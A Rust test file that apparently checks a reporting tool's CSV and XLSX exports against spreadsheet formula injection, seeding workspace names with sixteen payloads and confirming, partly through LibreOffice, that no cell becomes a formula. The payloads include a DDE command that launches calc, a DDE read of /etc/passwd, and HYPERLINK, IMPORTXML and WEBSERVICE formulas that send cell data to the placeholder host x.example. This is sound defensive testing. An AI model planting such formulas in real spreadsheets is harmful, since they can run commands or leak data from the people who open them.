//! Nothing in a report runs when a spreadsheet opens it.
//!
//! Every text a client's workspace can hold is a payload here. The tables are parsed again as spreadsheets do, and where `LibreOffice` is installed
//! it opens them itself: no cell may come out as a formula. Where it is not installed that half says loudly that it was skipped.

use std::fs;
use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::Command;

use crate::disk::limited;
use crate::world::World;

/// Texts that a spreadsheet would run, as TOML writes them.
const PAYLOADS: [&str; 16] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\\t=1+1",
    "\\r=1+1",
    "\\n=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\\\"http://x.example/?\\\"&A1,\\\"win\\\")",
    "=IMPORTXML(\\\"http://x.example/\\\",\\\"//a\\\")",
    "=WEBSERVICE(\\\"http://x.example/\\\"&A1)",
    "=DDE(\\\"soffice\\\",\\\"/etc/passwd\\\",\\\"1\\\")",
    "\\\"=1+1",
    "a\\n=1+1",
    "'=1+1",
    "\\uFF1D1+1",
];

/// One workspace whose every name is a payload.
fn script() -> String {
    let each = |row: &dyn Fn(usize, &str) -> String| {
        let rows: Vec<String> = PAYLOADS.iter().enumerate().map(|(n, payload)| row(n, payload)).collect();
        rows.join(",\n  ")
    };
    format!(
        r#"
version = 1
begin = "2026-03-02T09:00:00Z"

[[workspace]]
name = "acme"
id = "0195b2aa-7c1e-7d00-8000-000000000001"
title = "=1+1"
owner = "founder@agency.example"
admin = ["ops@agency.example", "+plus@agency.example", "-minus@agency.example", "=equals@agency.example"]
member = [
  {members}
]
campaigns = [
  {campaigns}
]
accounts = [
  {accounts}
]
tags = [
  {tags}
]
webhooks = [
  {webhooks}
]
lead_lists = [
  {lists}
]
jobs = [
  {jobs}
]
trail = [{{ activity = 1, by = "+plus@agency.example", at = "2026-10-30T08:00:00Z" }}]
"#,
        members = each(&|n, payload| {
            format!("{{ email = \"m{n}@agency.example\", role = \"view\", nickname = \"{payload}\" }}")
        }),
        campaigns = each(&|_, payload| format!("{{ name = \"{payload}\", status = 1 }}")),
        accounts = each(&|n, _| format!("{{ email = \"=a{n}@north.example\", status = -1 }}")),
        tags = each(&|_, payload| format!("{{ label = \"{payload}\", description = \"{payload}\" }}")),
        webhooks = each(&|n, payload| format!("{{ target = \"https://hooks.example/{n}\", name = \"{payload}\" }}")),
        lists = each(&|_, payload| format!("{{ name = \"{payload}\" }}")),
        jobs = each(&|_, payload| format!("{{ kind = \"{payload}\", by = \"ops@agency.example\" }}")),
    )
}

/// Every file of an ending beneath a folder.
fn files(folder: &Path, ending: &str) -> Vec<PathBuf> {
    let mut found = Vec::new();
    for entry in fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            found.extend(files(&path, ending));
        } else if path.extension().is_some_and(|is| is == ending) {
            found.push(path);
        }
    }
    found.sort();
    found
}

/// Tells whether a spreadsheet would take a cell for a formula; a number is none.
fn runs(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'])
        && cell.parse::<f64>().is_err()
}

#[test]
fn no_cell_of_a_report_runs_in_a_spreadsheet() {
    let world = World::of(&script());
    let out = world.folder().join("out");
    world.run(&["report", "all", "--xlsx", "--out", out.to_str().unwrap()]).exits(0).done();
    let tables = files(&out, "csv");
    assert!(tables.len() >= 26, "thirteen tables merged, and thirteen of the workspace: {tables:?}");
    let mut payloads = 0;
    for table in &tables {
        let mut reader = csv::ReaderBuilder::new().has_headers(true).from_path(table).unwrap();
        for record in reader.records() {
            for cell in &record.unwrap() {
                assert!(!runs(cell), "{}: {cell:?} would run", table.display());
                payloads += usize::from(cell.starts_with('\''));
            }
        }
    }
    assert!(payloads > PAYLOADS.len() * 8, "the payloads reached the tables: {payloads}");
    opened_by_libreoffice(&out, &tables);
}

/// Has `LibreOffice` open the merged tables and the workbook, and looks for cells that it took for formulas.
fn opened_by_libreoffice(out: &Path, tables: &[PathBuf]) {
    let Some(office) = ["/usr/bin/soffice", "/usr/bin/libreoffice"].into_iter().find(|path| Path::new(path).exists())
    else {
        // Not by the macros: the harness would keep what a test that passes says to itself.
        let told =
            b"\n!!! SKIPPED, NOTHING IS PROVEN: no LibreOffice is installed; no spreadsheet opened the tables\n\n";
        std::io::stderr().write_all(told).unwrap();
        return;
    };
    let folder = tempfile::tempdir().unwrap();
    let flat = folder.path().join("flat");
    let mut open = Command::new(office);
    open.args(["--headless", "--norestore"]);
    open.arg(format!("-env:UserInstallation=file://{}", folder.path().join("profile").display()));
    open.args(["--convert-to", "fods", "--outdir"]).arg(&flat);
    open.args(tables.iter().filter(|table| table.parent() == Some(out))).arg(out.join("report.xlsx"));
    let ended = open.output().unwrap();
    assert!(ended.status.success(), "{}", String::from_utf8_lossy(&ended.stderr));
    let opened = files(&flat, "fods");
    assert!(opened.len() >= 14, "LibreOffice opened {opened:?}");
    for file in opened {
        let text = fs::read_to_string(&file).unwrap();
        assert!(text.contains("table:table-cell"), "{} holds cells", file.display());
        assert!(!text.contains("table:formula"), "{} holds a formula", file.display());
    }
}

#[test]
fn a_workbook_for_which_there_is_no_room_is_told_in_our_words_alone() {
    let people: Vec<String> = (0..300).map(|number| format!("\"person-{number}@agency.example\"")).collect();
    let script = format!(
        "version = 1\n\n[[workspace]]\nname = \"acme\"\nowner = \"founder@agency.example\"\nview = [{}]\n",
        people.join(", ")
    );
    let world = World::of(&script);
    // Room for every table and page, and for no sheet.
    let full = limited(&world, &["report", "members", "--xlsx", "--out", "november"], 400).exits(74);
    let full = full.says("report.xlsx").says("the disk may be full").says("keyholder report --resume --out november");
    assert!(!full.stderr.contains("panicked") && !full.stderr.contains("thread '"), "{full}");
    world.run(&["report", "--resume", "--out", "november"]).exits(0).done();
}
